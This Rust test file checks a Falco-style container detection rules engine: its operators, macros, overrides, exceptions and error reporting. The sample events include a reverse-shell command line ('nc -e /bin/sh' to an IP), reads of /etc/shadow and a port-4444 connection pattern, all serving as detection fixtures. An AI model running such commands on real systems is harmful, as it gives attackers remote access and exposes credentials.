//! Rules engine behaviour: operators, lists, macros, overrides, exceptions, errors.

mod common;

use common::{Ev, fires, hits, load, rule};
use dockguard_falco::{Field, Priority, Ruleset};

fn err(yaml: &str) -> String {
    match Ruleset::load_str(&[("bad.yaml", yaml)]) {
        Ok(_) => panic!("loaded: {yaml}"),
        Err(e) => e.to_string(),
    }
}

#[test]
fn comparison_operators() {
    let ev = Ev::exec("bash")
        .i(Field::UserUid, 1000)
        .i(Field::ProcTty, 34816)
        .b(Field::ContainerPrivileged, true)
        .s(Field::ProcCmdline, "bash -c \"nc -e /bin/sh 1.2.3.4\"")
        .s(Field::FdName, "/etc/shadow");
    assert!(fires("proc.name = bash", &ev));
    assert!(fires("proc.name == bash", &ev));
    assert!(!fires("proc.name = sh", &ev));
    assert!(fires("proc.name != sh", &ev));
    assert!(!fires("proc.name != bash", &ev));
    assert!(fires("user.uid >= 1000 and user.uid <= 1000", &ev));
    assert!(fires("user.uid > 999 and user.uid < 1001", &ev));
    assert!(!fires("user.uid < 1000", &ev));
    assert!(!fires("user.uid > 1000", &ev));
    assert!(fires("proc.tty != 0", &ev));
    assert!(fires("container.privileged = true", &ev));
    assert!(!fires("container.privileged = false", &ev));
    assert!(fires("container.privileged != false", &ev));
    assert!(fires("proc.cmdline contains \"-e \"", &ev));
    assert!(!fires("proc.cmdline contains \"--exec\"", &ev));
    assert!(fires("proc.cmdline icontains \"NC -E\"", &ev));
    assert!(fires("proc.cmdline startswith bash", &ev));
    assert!(fires("proc.cmdline endswith \"1.2.3.4\\\"\"", &ev));
    assert!(fires("fd.name bcontains 736861646f77", &ev)); // "shadow"
    assert!(fires("fd.name bstartswith 2f657463", &ev)); // "/etc"
    assert!(fires("fd.name glob /etc/*", &ev));
    // fnmatch(3) without FNM_PATHNAME, as libsinsp: `*` crosses `/`.
    assert!(fires("fd.name glob /*", &ev));
    assert!(!fires("fd.name glob /*/passwd", &ev));
    assert!(fires("fd.name iglob /ETC/SHA*", &ev));
    assert!(fires("fd.name pmatch (/etc, /var)", &ev));
    assert!(!fires("fd.name pmatch (/et, /etc/sha)", &ev));
    assert!(fires("fd.name regex \"/etc/(shadow|gshadow)\"", &ev));
    assert!(!fires("fd.name regex \"shadow\"", &ev)); // full match
    assert!(fires("proc.name in (sh, bash)", &ev));
    assert!(!fires("proc.name in (sh, zsh)", &ev));
    assert!(fires("user.uid in (0, 1000)", &ev));
    assert!(fires("proc.name exists and not proc.pname exists", &ev));
    assert!(fires(
        "tolower(proc.name) = bash and toupper(proc.name) = BASH",
        &ev
    ));
    assert!(fires("basename(fd.name) = shadow", &ev));
    // Missing fields: every comparison is false, `!=` included.
    assert!(!fires("proc.pname != foo", &ev));
    assert!(fires("not proc.pname = foo", &ev));
    // val(): compare with another field.
    let same = Ev::exec("bash").s(Field::ProcPname, "bash");
    assert!(fires("proc.name = val(proc.pname)", &same));
    assert!(!fires(
        "proc.name = val(proc.pname)",
        &Ev::exec("bash").s(Field::ProcPname, "sh")
    ));
}

#[test]
fn boolean_logic_and_precedence() {
    let ev = Ev::exec("bash");
    assert!(fires(
        "proc.name = sh or proc.name = bash and container.id != host",
        &ev
    ));
    assert!(!fires(
        "(proc.name = sh or proc.name = bash) and container.id = host",
        &ev
    ));
    assert!(fires("not not proc.name = bash", &ev));
    assert!(fires("not (proc.name = sh)", &ev));
}

#[test]
fn set_fields_in_and_intersects() {
    let ev = Ev::exec("x").list(Field::ContainerCapAdd, &["NET_ADMIN", "SYS_ADMIN"]);
    assert!(fires(
        "container.cap_add intersects (SYS_ADMIN, SYS_MODULE)",
        &ev
    ));
    assert!(!fires("container.cap_add intersects (SYS_MODULE)", &ev));
    // `in` on a set field: every element is in the list.
    assert!(fires(
        "container.cap_add in (NET_ADMIN, SYS_ADMIN, CHOWN)",
        &ev
    ));
    assert!(!fires("container.cap_add in (NET_ADMIN)", &ev));
    assert!(fires("container.cap_add contains ADMIN", &ev));
    // Ancestors: without index, any ancestor.
    let ev = Ev::exec("sh").ancestors(&["bash", "sshd", "systemd"]);
    assert!(fires("proc.aname[2] = sshd", &ev));
    assert!(!fires("proc.aname[1] = sshd", &ev));
    assert!(fires("proc.aname in (sshd)", &ev));
    assert!(fires("proc.aname = systemd", &ev));
    assert!(!fires("proc.aname[9] exists", &ev));
    let ev = Ev::exec("x").mount("/var/run/docker.sock", "/var/run/docker.sock");
    assert!(fires(
        "container.mount.dest[/var/run/docker.sock] exists",
        &ev
    ));
    assert!(!fires("container.mount.dest[/etc] exists", &ev));
}

#[test]
fn lists_and_macros() {
    let yaml = r#"
- list: shells
  items: [bash, sh]
- list: more_shells
  items: [shells, zsh, '"fish shell"']
- macro: spawned_process
  condition: evt.type in (execve, execveat)
- macro: shell_procs
  condition: spawned_process and proc.name in (more_shells)
- rule: Shell
  desc: d
  condition: shell_procs
  output: "shell %proc.name"
  priority: info
  tags: [container, shell]
"#;
    let rs = load(yaml);
    assert_eq!(hits(&rs, &Ev::exec("sh")), ["Shell"]);
    assert_eq!(hits(&rs, &Ev::exec("zsh")), ["Shell"]);
    assert_eq!(hits(&rs, &Ev::exec("fish shell")), ["Shell"]);
    assert!(hits(&rs, &Ev::exec("python")).is_empty());
    assert!(hits(&rs, &Ev::exec("bash").s(Field::EvtType, "open")).is_empty());
    let r = &rs.rules()[0];
    assert_eq!(r.priority(), Priority::Informational);
    assert_eq!(r.tags(), ["container", "shell"]);
    assert_eq!(rs.stats().lists, 2);
    assert_eq!(rs.stats().macros, 2);
    // A quoted value is never a list name.
    let rs = load(&format!(
        "- list: l\n  items: [a]\n{}",
        rule("proc.name in (\"l\")")
    ));
    assert_eq!(hits(&rs, &Ev::exec("l")), ["R"]);
    assert!(hits(&rs, &Ev::exec("a")).is_empty());
}

#[test]
fn overrides_and_appends() {
    let base = r#"
- list: shells
  items: [bash]
- macro: m
  condition: proc.name = bash
- rule: R
  desc: first
  condition: m
  output: o1
  priority: WARNING
  tags: [a]
- rule: Other
  desc: d
  condition: proc.name = never
  output: o
  priority: DEBUG
"#;
    let over = r#"
- list: shells
  items: [sh]
  override:
    items: append
- macro: m
  condition: or proc.name in (shells)
  override:
    condition: append
- rule: R
  condition: and container.id != host
  output: "%proc.name"
  tags: [b]
  priority: critical
  override:
    condition: append
    output: append
    tags: append
    priority: replace
"#;
    let (rs, w) = Ruleset::load_str(&[("base.yaml", base), ("local.yaml", over)]).unwrap();
    assert!(w.is_empty(), "{w:?}");
    assert_eq!(hits(&rs, &Ev::exec("sh")), ["R"]);
    assert!(hits(&rs, &Ev::exec("sh").s(Field::ContainerId, "host")).is_empty());
    let r = &rs.rules()[0];
    assert_eq!(r.priority(), Priority::Critical);
    assert_eq!(r.tags(), ["a", "b"]);
    assert_eq!(r.format(&Ev::exec("sh")).0, "o1 sh");

    // Replace the macro's condition; legacy `append: true` on a rule.
    let over2 = r#"
- macro: m
  condition: proc.name = zsh
  override:
    condition: replace
- rule: R
  append: true
  condition: and proc.tty = 0
"#;
    let (rs, _) = Ruleset::load_str(&[("base.yaml", base), ("o.yaml", over2)]).unwrap();
    assert!(hits(&rs, &Ev::exec("bash").i(Field::ProcTty, 0)).is_empty());
    assert_eq!(hits(&rs, &Ev::exec("zsh").i(Field::ProcTty, 0)), ["R"]);
    assert!(hits(&rs, &Ev::exec("zsh").i(Field::ProcTty, 5)).is_empty());

    // Redefinition replaces in place; `enabled: false` alone disables; override re-enables.
    let redefine = r#"
- rule: R
  desc: second
  condition: proc.name = python
  output: o
  priority: ERROR
- rule: Other
  enabled: false
"#;
    let (rs, _) = Ruleset::load_str(&[("base.yaml", base), ("o.yaml", redefine)]).unwrap();
    assert_eq!(rs.rules()[0].desc(), "second");
    assert_eq!(hits(&rs, &Ev::exec("python")), ["R"]);
    assert!(!rs.rules()[1].enabled());
    assert!(hits(&rs, &Ev::exec("never")).is_empty());
    assert_eq!(rs.stats().disabled, 1);
    let enable = "- rule: Other\n  enabled: true\n  override:\n    enabled: replace\n";
    let (rs, _) = Ruleset::load_str(&[
        ("base.yaml", base),
        ("o.yaml", redefine),
        ("e.yaml", enable),
    ])
    .unwrap();
    assert_eq!(hits(&rs, &Ev::exec("never")), ["Other"]);
}

#[test]
fn override_errors() {
    let e = err("- list: nope\n  items: [a]\n  override:\n    items: append\n");
    assert!(
        e.starts_with("bad.yaml:1:3:") && e.contains("no list"),
        "{e}"
    );
    let e = err(&format!(
        "{}- rule: R\n  priority: INFO\n  override:\n    priority: append\n",
        rule("proc.name = a")
    ));
    assert!(e.contains("cannot append `priority`"), "{e}");
    let e = err(&format!(
        "{}- rule: R\n  condition: x\n  override:\n    output: append\n",
        rule("proc.name = a")
    ));
    assert!(e.contains("has no `output`"), "{e}");
    let e = err("- rule: Q\n  append: true\n  condition: and x\n");
    assert!(e.contains("no rule of that name"), "{e}");
    let e =
        err("- rule: Q\n  desc: d\n  condition: proc.name = a\n  output: o\n  priority: LOUD\n");
    assert!(
        e.starts_with("bad.yaml:5:13:") && e.contains("unknown priority"),
        "{e}"
    );
    let e = err("- rule: Q\n  desc: d\n  output: o\n  priority: INFO\n");
    assert!(e.contains("no `condition`"), "{e}");
}

#[test]
fn exceptions_in_all_shapes() {
    let yaml = r#"
- list: allowed_images
  items: [docker.io/library/nginx]
- rule: R
  desc: d
  condition: evt.type = execve and proc.name in (bash, sh)
  output: o
  priority: NOTICE
  exceptions:
    - name: by_image_and_parent
      fields: [container.image.repository, proc.pname]
      comps: [=, in]
      values:
        - [docker.io/library/redis, [entrypoint.sh, run.sh]]
    - name: by_image_list
      fields: container.image.repository
      values: [allowed_images, quay.io/x/y]
    - name: by_prefix
      fields: [proc.cwd]
      comps: [startswith]
      values:
        - [/opt/trusted/]
    - name: empty_for_now
      fields: [proc.name]
"#;
    let rs = load(yaml);
    let ev = || Ev::exec("bash");
    assert_eq!(hits(&rs, &ev()), ["R"]);
    let redis = |p: &str| {
        ev().s(Field::ContainerImageRepository, "docker.io/library/redis")
            .s(Field::ProcPname, p)
    };
    assert!(hits(&rs, &redis("run.sh")).is_empty());
    assert_eq!(hits(&rs, &redis("python")), ["R"]);
    let img = |i: &str| ev().s(Field::ContainerImageRepository, i);
    assert!(hits(&rs, &img("docker.io/library/nginx")).is_empty());
    assert!(hits(&rs, &img("quay.io/x/y")).is_empty());
    assert_eq!(hits(&rs, &img("quay.io/x/z")), ["R"]);
    assert!(hits(&rs, &ev().s(Field::ProcCwd, "/opt/trusted/bin/")).is_empty());

    // Values appended by a later file to an existing exception.
    let more = r#"
- rule: R
  exceptions:
    - name: empty_for_now
      values: [[bash]]
  override:
    exceptions: append
"#;
    let (rs, w) = Ruleset::load_str(&[("a.yaml", yaml), ("b.yaml", more)]).unwrap();
    assert!(w.is_empty());
    assert!(hits(&rs, &Ev::exec("bash")).is_empty());
    assert_eq!(hits(&rs, &Ev::exec("sh")), ["R"]);

    // Errors point into the exception.
    let bad = "- rule: R\n  desc: d\n  condition: proc.name = a\n  output: o\n  priority: INFO\n  exceptions:\n    - name: x\n      fields: [proc.name, proc.pname]\n      comps: [=]\n      values: [[a, b]]\n";
    let e = err(bad);
    assert!(
        e.starts_with("bad.yaml:9:14:") && e.contains("2 fields but 1 comps"),
        "{e}"
    );
    let bad = bad
        .replace("comps: [=]", "comps: [=, =]")
        .replace("[[a, b]]", "[[a]]");
    let e = err(&bad);
    assert!(
        e.starts_with("bad.yaml:10:16:") && e.contains("list of 2 items"),
        "{e}"
    );
    let bad = bad.replace("comps: [=, =]", "comps: [=, frobs]");
    assert!(err(&bad).contains("unknown comparison `frobs`"));
}

#[test]
fn unknown_fields_skip_the_rule_with_one_warning() {
    let yaml = r#"
- macro: net
  condition: fd.sip = 1.2.3.4 and fd.sport = 4444
- rule: Uses net
  desc: d
  condition: evt.type = connect and net
  output: o
  priority: NOTICE
  skip-if-unknown-filter: true
- rule: Uses args
  desc: d
  condition: evt.arg.flags contains O_TRUNC or evt.arg[0] = 1
  output: o
  priority: NOTICE
- rule: Kept
  desc: d
  condition: proc.name = bash
  output: "%proc.name %user.loginname"
  priority: NOTICE
- rule: Audit
  desc: d
  condition: ka.verb = create
  output: o
  priority: NOTICE
  source: k8s_audit
- rule: Audit2
  desc: d
  condition: ka.verb = delete
  output: o
  priority: NOTICE
  source: k8s_audit
"#;
    let (rs, w) = Ruleset::load_str(&[("f.yaml", yaml)]).unwrap();
    let msgs: Vec<String> = w.iter().map(|w| w.to_string()).collect();
    assert_eq!(msgs.len(), 3, "{msgs:#?}");
    assert!(
        msgs[0].starts_with("f.yaml:4:3:")
            && msgs[0].contains("`Uses net`")
            && msgs[0].contains("`fd.sip` (in macro `net`)"),
        "{msgs:?}"
    );
    assert!(msgs[1].contains("`Uses args`") && msgs[1].contains("`evt.arg.flags`"));
    assert!(
        msgs[2].contains("2 rule(s) of source `k8s_audit` skipped")
            && msgs[2].contains("Audit, Audit2")
    );
    assert_eq!(rs.rules().len(), 1);
    assert_eq!(rs.stats().skipped_unknown_field, 2);
    assert_eq!(rs.stats().skipped_source, 2);
    assert_eq!(rs.rules()[0].format(&Ev::exec("bash")).0, "bash <NA>");
}

#[test]
fn errors_name_file_line_column() {
    // Bad YAML.
    let e = err("- rule: a\n  desc: [x\n");
    assert!(e.starts_with("bad.yaml:"), "{e}");
    // Syntax error inside a folded condition: points into the file.
    let yaml = "- rule: R\n  desc: d\n  condition: >\n    proc.name = bash\n    and (proc.pname = sh\n  output: o\n  priority: INFO\n";
    let e = err(yaml);
    assert!(
        e.starts_with("bad.yaml:5:9:") && e.contains("unclosed `(`"),
        "{e}"
    );
    let yaml = "- rule: R\n  desc: d\n  condition: proc.name bash\n  output: o\n  priority: INFO\n";
    let e = err(yaml);
    assert!(
        e.starts_with("bad.yaml:3:24:") && e.contains("expected an operator"),
        "{e}"
    );
    // Unknown macro: position of the reference.
    let yaml = "- rule: R\n  desc: d\n  condition: proc.name = a and no_such_macro\n  output: o\n  priority: INFO\n";
    let e = err(yaml);
    assert!(
        e.starts_with("bad.yaml:3:32:") && e.contains("unknown macro `no_such_macro`"),
        "{e}"
    );
    // Macro cycle.
    let yaml = "- macro: a\n  condition: b\n- macro: b\n  condition: proc.name = x or a\n- rule: R\n  desc: d\n  condition: a\n  output: o\n  priority: INFO\n";
    let e = err(yaml);
    assert!(
        e.contains("macro cycle: a -> b -> a") && e.starts_with("bad.yaml:4:31:"),
        "{e}"
    );
    // Error in an appended condition points to the second file.
    let base = "- rule: R\n  desc: d\n  condition: proc.name = a\n  output: o\n  priority: INFO\n";
    let add =
        "- rule: R\n  condition: and proc.tty = notanumber\n  override:\n    condition: append\n";
    let e = Ruleset::load_str(&[("a.yaml", base), ("b.yaml", add)])
        .unwrap_err()
        .to_string();
    assert!(
        e.starts_with("b.yaml:2:29:") && e.contains("not a number"),
        "{e}"
    );
    // Macro syntax error even if unused.
    let e = err("- macro: m\n  condition: proc.name = = x\n");
    assert!(
        e.starts_with("bad.yaml:2:26:") && e.contains("macro `m`"),
        "{e}"
    );
    // Bad regex, wrong boolean, list cycle, not a list.
    assert!(err(&rule("fd.name regex \"(\"")).contains("bad regex"));
    assert!(err(&rule("container.privileged = maybe")).contains("not `true` or `false`"));
    assert!(err("- list: a\n  items: [b]\n- list: b\n  items: [a]\n").contains("list cycle"));
    assert!(err("rule: x\n").contains("must be a list of items"));
    assert!(err("- rule: x\n  rule: y\n").contains("duplicate mapping key"));
}

#[test]
fn evttype_index_and_load_order() {
    let yaml = r#"
- rule: B open
  desc: d
  condition: evt.type in (open, openat) and fd.name = /etc/shadow
  output: o
  priority: WARNING
- rule: A any
  desc: d
  condition: fd.name = /etc/shadow
  output: o
  priority: WARNING
- rule: C exec
  desc: d
  condition: evt.type = execve or evt.type = open
  output: o
  priority: WARNING
- rule: D never
  desc: d
  condition: evt.type = execve and evt.type = open
  output: o
  priority: WARNING
- rule: E docker
  desc: d
  condition: docker.action = start
  output: o
  priority: WARNING
  source: docker
"#;
    let rs = load(yaml);
    let ev = Ev::new()
        .s(Field::EvtType, "open")
        .s(Field::EvtSource, "syscall")
        .s(Field::FdName, "/etc/shadow");
    assert_eq!(hits(&rs, &ev), ["B open", "A any", "C exec"]);
    let ev = ev.s(Field::EvtType, "openat");
    assert_eq!(hits(&rs, &ev), ["B open", "A any"]);
    let docker = Ev::new()
        .s(Field::EvtType, "container")
        .s(Field::EvtSource, "docker")
        .s(Field::DockerAction, "start")
        .s(Field::FdName, "/etc/shadow");
    // Source filtering: the syscall rule `A any` is not evaluated on docker events.
    assert_eq!(hits(&rs, &docker), ["E docker"]);
    assert_eq!(rs.rules()[4].source(), "docker");
}

#[test]
fn engine_version_and_plugins_are_accepted() {
    let yaml = "- required_engine_version: 0.57.0\n- required_plugin_versions:\n  - name: container\n    version: 0.4.0\n";
    let (rs, w) = Ruleset::load_str(&[("v.yaml", yaml)]).unwrap();
    assert!(w.is_empty());
    assert_eq!(rs.required_engine_versions(), ["0.57.0"]);
    let (_, w) = Ruleset::load_str(&[("v.yaml", "- frob: 1\n")]).unwrap();
    assert!(w[0].to_string().contains("unknown item `frob`"));
}
